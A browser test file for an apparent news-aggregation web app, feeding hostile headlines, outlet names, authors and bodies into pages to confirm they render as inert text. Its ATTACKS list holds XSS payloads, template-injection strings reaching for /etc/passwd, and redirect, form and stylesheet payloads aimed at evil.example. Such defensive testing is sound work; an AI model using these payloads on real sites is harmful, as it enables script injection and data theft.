"""Titles, outlets, names and bodies that mean harm: shown as text in a real browser (hardening cases 13 and 14)."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from hearsay.store.db import Store
from tests.serve.running import running
from tests.serve.stock import NOW, Clock, put, report

from .conftest import Seen, watch

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    '"><a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
    "<img srcset='http://evil.example/x.png 1x'><link rel=stylesheet href=//evil.example/x.css>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "<div hx-get='http://evil.example/' hx-trigger=load hx-on:click='alert(1)' data-hx-get=/seen>x</div>",
    "</title></style></textarea></svg><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href='http://evil.example/'>",
    "<form action=//evil.example/><input type=submit autofocus></form><style>*{background:url(//evil.example)}</style>",
    "\u202egnp.exe \u2066 \x1b[31m \x00 <!--",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store in which every word that can be shown is an attack."""
    place = tmp_path_factory.mktemp("hostile") / "page.hearsay"
    reports = []
    for n, attack in enumerate(ATTACKS):
        flat = attack.replace(".", "·")
        text = f"The harbour wall {flat} broke. Ana Ruiz said {flat} in the harbour of Orva. {attack}"
        told = (f"Outlet {attack}", 1 + n % 3, f"Headline {attack}", text)
        reports.append(report(f"r{n}", told, author=attack))
    put(place, reports, NOW)
    return place


def everything(seen: Seen) -> set[str]:
    """Open every page that links lead to."""
    ahead, done = (
        ["/", "/search?q=" + "%3Cscript%3Ealert(1)%3C/script%3E", "/sources?name=%3Cimg%20src=x%20onerror=alert(1)%3E"],
        set(),
    )
    while ahead:
        path = ahead.pop()
        done.add(path)
        answer = seen.page.goto(seen.url + path)
        assert answer is not None, path
        assert answer.status < 400, path
        for to in seen.page.eval_on_selector_all("a[href]", "all => all.map(a => a.getAttribute('href'))"):
            assert to.startswith(("/", "#")), to
            bare = re.sub(r"[?#].*", "", to)
            if to.startswith("/") and bare not in done and bare not in ahead and "/export/" not in bare:
                ahead.append(bare)
    return done


def test_nothing_hostile_runs_loads_or_leads_away(browser: Browser, hostile: Path) -> None:
    clock = Clock()
    with running(hostile, clock) as url:
        context = browser.new_context()
        seen = watch(context, url, hostile, clock)
        pages = everything(seen)
        context.close()
    assert len(pages) > 3 * len(ATTACKS)
    seen.is_clean()


def test_what_is_attacked_with_is_shown_as_text(browser: Browser, hostile: Path) -> None:
    with running(hostile) as url, Store.open(hostile, read_only=True) as store:
        context = browser.new_context()
        page = context.new_page()
        page.goto(url)
        titles = " ".join(page.locator("h3").all_inner_texts())
        assert any(s.title and s.title[:20] in titles for s in store.stories.all())
        assert page.locator("main script, main iframe, main img, main style, main base").count() == 0
        context.close()
